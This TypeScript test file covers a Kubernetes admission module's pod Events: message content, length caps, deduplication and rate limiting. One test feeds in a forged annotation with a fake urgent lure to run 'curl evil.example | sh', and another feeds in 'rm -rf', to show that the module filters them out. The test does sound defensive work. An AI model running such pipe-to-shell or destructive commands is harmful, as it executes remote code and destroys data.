// Events on the pods the module fixed: what they say, once per pod, only for new pods, and no
// more than the rate allows.
import { policies } from "../../../capabilities";
import {
  fixedEvent,
  FixEvents,
  NAMESPACE_BUCKETS,
  REMEMBERED,
  TokenBucket,
  type CoreEvent,
} from "../../../lib/reports/events";
import type { KubeObject } from "../../../lib/objects/pod";

const NOW = Date.parse("2026-11-30T12:00:00Z");

function pod(name: string, fixed?: string, createdAgoMs = 1000): KubeObject {
  return {
    apiVersion: "v1",
    kind: "Pod",
    metadata: {
      name,
      namespace: "ml",
      uid: `uid-${name}`,
      creationTimestamp: new Date(NOW - createdAgoMs).toISOString() as unknown as Date,
      ...(fixed ? { annotations: { "admission-guard.dev/fixed": fixed } } : {}),
    },
    spec: { containers: [{ name: "c", image: "x" }] },
  };
}

describe("the Event of a fixed pod", () => {
  it("says what each capability changed and why, on the pod by uid", () => {
    const event = fixedEvent(
      pod(
        "trainer",
        "labels/component-from-app,security-context/runAsNonRoot,security-context/runAsUser",
      ),
      policies,
      new Date(NOW),
      "watcher-0",
    )!;
    expect(event).toMatchObject({
      apiVersion: "v1",
      kind: "Event",
      metadata: { generateName: "trainer.", namespace: "ml" },
      involvedObject: {
        apiVersion: "v1",
        kind: "Pod",
        name: "trainer",
        namespace: "ml",
        uid: "uid-trainer",
      },
      reason: "AdmissionGuardFixed",
      type: "Normal",
      source: { component: "admission-guard" },
      reportingInstance: "watcher-0",
      count: 1,
      firstTimestamp: "2026-11-30T12:00:00.000Z",
    });
    expect(event.message).toMatch(
      /^admission-guard fixed labels: component-from-app \(.+\); security-context: runAsNonRoot, runAsUser \(Pod Security Standards restricted/,
    );
  });

  it("none for a pod the module did not fix, or one that is not a stored pod", () => {
    expect(fixedEvent(pod("plain"), policies, new Date(NOW))).toBeUndefined();
    const noUid = pod("p", "labels/component-from-app");
    delete noUid.metadata!.uid;
    expect(fixedEvent(noUid, policies, new Date(NOW))).toBeUndefined();
  });

  it("keeps the message within what the API server stores", () => {
    // Rule names of the module's own capabilities (made-up capabilities are not told: below).
    const many = Array.from(
      { length: 200 },
      (_, i) => `security-context/rule-${i}-${"a".repeat(36)}`,
    ).join(",");
    expect(fixedEvent(pod("p", many), policies, new Date(NOW))!.message.length).toBe(1024);
  });

  it("tells only what the module could have written: its capabilities, rule-like names, a few dozen at most", () => {
    // A pod's author writes the trace annotation too: free text, unknown capabilities and floods
    // never reach an Event signed admission-guard.
    const forged = [
      "security-context/runAsNonRoot",
      "security-context/URGENT: your cluster is compromised, run curl evil.example | sh",
      "security-team/approved by the security team",
      `labels/${"x".repeat(300)}`,
      ...Array.from({ length: 100 }, (_, i) => `labels/r${i}`),
    ].join(",");
    const event = fixedEvent(pod("p", forged), policies, new Date(NOW))!;
    expect(event.message).not.toMatch(/URGENT|curl|approved|security-team|xxxx/);
    expect(event.message).toMatch(
      /^admission-guard fixed security-context: runAsNonRoot \(.*\); labels: r0, r1, /,
    );
    expect(event.message.match(/\br\d+\b/g)).toHaveLength(31); // 32 entries with runAsNonRoot
    // Nothing the module could have written: no Event at all.
    expect(
      fixedEvent(pod("q", "security-team/approved,labels/rm -rf"), policies, new Date(NOW)),
    ).toBeUndefined();
  });
});

describe("writing them", () => {
  const setup = (perSecond = 10) => {
    const written: CoreEvent[] = [];
    let now = NOW;
    const events = new FixEvents({
      perSecond,
      write: async e => void written.push(e),
      policies: () => policies,
      now: () => now,
    });
    return { events, written, advance: (ms: number) => (now += ms) };
  };

  it("once per pod, however often the watcher sees it", async () => {
    const { events, written } = setup();
    const p = pod("a", "security-context/runAsNonRoot");
    await events.onPod(p);
    await events.onPod(p);
    await events.onPod(structuredClone(p));
    expect(written).toHaveLength(1);
  });

  it("not for pods created before the watcher started looking (a re-list of what already ran)", async () => {
    const { events, written } = setup();
    await events.onPod(pod("old", "security-context/runAsNonRoot", 10 * 60_000));
    expect(written).toEqual([]);
  });

  it("drops what goes over the rate, counts it, and writes again once the budget refills", async () => {
    const { events, written, advance } = setup(2); // bursts of 10
    for (let i = 0; i < 25; i++) await events.onPod(pod(`p${i}`, "security-context/runAsNonRoot"));
    expect(written).toHaveLength(10);
    expect(events.stats.dropped).toBe(15);
    advance(1000);
    for (let i = 25; i < 30; i++) await events.onPod(pod(`p${i}`, "security-context/runAsNonRoot"));
    expect(written).toHaveLength(12);
  });

  it("one namespace's flood spends its own budget, not the cluster's: another namespace's pods still get theirs", async () => {
    const written: CoreEvent[] = [];
    const events = new FixEvents({
      perSecond: 10, // bursts of 50
      perNamespacePerSecond: 1, // bursts of 5
      write: async e => void written.push(e),
      policies: () => policies,
      now: () => NOW,
    });
    const inNs = (ns: string, name: string) => {
      const p = pod(name, "security-context/runAsNonRoot");
      p.metadata!.namespace = ns;
      return p;
    };
    for (let i = 0; i < 500; i++) await events.onPod(inNs("flood", `f${i}`));
    for (let i = 0; i < 5; i++) await events.onPod(inNs("quiet", `q${i}`));
    const byNs = (ns: string) => written.filter(e => e.involvedObject.namespace === ns).length;
    expect([byNs("flood"), byNs("quiet")]).toEqual([5, 5]);
    expect(events.stats).toMatchObject({ dropped: 495, throttledNamespace: 495 });
  });

  it("keeps a budget for a bounded number of namespaces", async () => {
    const events = new FixEvents({
      perSecond: 1000,
      perNamespacePerSecond: 1,
      write: async () => undefined,
      policies: () => policies,
      now: () => NOW,
    });
    for (let i = 0; i < NAMESPACE_BUCKETS + 100; i++) {
      const p = pod(`p${i}`, "security-context/runAsNonRoot");
      p.metadata!.namespace = `ns-${i}`;
      await events.onPod(p);
    }
    expect(
      (events as unknown as { namespaceBuckets: Map<string, unknown> }).namespaceBuckets.size,
    ).toBe(NAMESPACE_BUCKETS);
  });

  it("remembers a bounded number of pods: the oldest told is forgotten first", async () => {
    const written: string[] = [];
    const events = new FixEvents({
      perSecond: 1_000_000,
      write: async e => void written.push(e.involvedObject.name),
      policies: () => policies,
      now: () => NOW,
    });
    for (let i = 0; i <= REMEMBERED; i++)
      await events.onPod(pod(`p${i}`, "security-context/runAsNonRoot"));
    expect(written).toHaveLength(REMEMBERED + 1);
    // The newest is still remembered; the first, past the bound, is not (it is told again).
    await events.onPod(pod(`p${REMEMBERED}`, "security-context/runAsNonRoot"));
    await events.onPod(pod("p0", "security-context/runAsNonRoot"));
    expect(written.slice(REMEMBERED + 1)).toEqual(["p0"]);
    expect((events as unknown as { seen: Set<string> }).seen.size).toBe(REMEMBERED);
  });

  it("a failed write is counted and logged, never thrown", async () => {
    const warnings: string[] = [];
    const events = new FixEvents({
      perSecond: 10,
      write: async () => {
        throw new Error("forbidden");
      },
      policies: () => policies,
      now: () => NOW,
      log: { warn: (_o, m) => void warnings.push(m) },
    });
    await expect(events.onPod(pod("a", "security-context/runAsNonRoot"))).resolves.toBeUndefined();
    expect(events.stats.failed).toBe(1);
    expect(warnings).toEqual(["could not write the pod's Event"]);
  });
});

describe("TokenBucket", () => {
  it("allows a burst, then the rate", () => {
    let t = 0;
    const bucket = new TokenBucket(1, 3, () => t);
    expect([bucket.take(), bucket.take(), bucket.take(), bucket.take()]).toEqual([
      true,
      true,
      true,
      false,
    ]);
    t += 500;
    expect(bucket.take()).toBe(false);
    t += 500;
    expect(bucket.take()).toBe(true);
    t += 60_000;
    expect([bucket.take(), bucket.take(), bucket.take(), bucket.take()]).toEqual([
      true,
      true,
      true,
      false,
    ]);
  });
});
